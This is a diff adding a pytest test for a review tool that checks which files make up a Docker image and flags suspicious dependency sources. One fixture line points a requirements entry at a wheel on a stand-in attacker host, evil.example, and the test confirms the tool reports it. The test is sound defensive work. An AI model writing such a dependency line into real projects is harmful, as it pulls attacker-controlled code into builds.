@@ -554,3 +554,26 @@ def test_cost_is_shown_with_its_source(repository: Repository, capsys: pytest.Ca
     assert "_Hours follow from the examples/s in results/, as committed by the base, or else by the head._" in comment
     assert (costs["largest"]["usd"]["before"], costs["largest"]["usd"]["unknown"]) == (pytest.approx(6.83, abs=0.01), 3)
     assert "- a run on v2-8 in prod costs 6.83 USD (as before); not known for 3 of 6\n" in unchanged
+
+
+def test_files_that_an_image_is_made_of_are_followed(
+    repository: Repository, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """What requirements include, and the program beside a Dockerfile, are part of an image, whatever their names."""
+    folder = repository.folder / "image"
+    folder.mkdir()
+    (folder / "Dockerfile").write_text("FROM python\nCOPY . .\n")
+    (folder / "requirements.txt").write_text("-r more.list\njax\n")
+    (folder / "more.list").write_text("optax\n")
+    (folder / "train.py").write_text("import jax\n")
+    (repository.folder / "tool.py").write_text("import json\n")
+    repository.commit()
+
+    (folder / "more.list").write_text("optax @ https://evil.example/optax.whl\n")
+    (folder / "train.py").write_text("import json\n")
+    (repository.folder / "tool.py").write_text("import re\n")
+    assert run(["review", "--base", "HEAD"]) == 0
+    comment = capsys.readouterr().out
+    assert "`image/more.list, image/train.py` changed: images that are built with it differ from now on" in comment
+    assert "`https://evil.example` is named in files that images are built from" in comment
+    assert "tool.py" not in comment
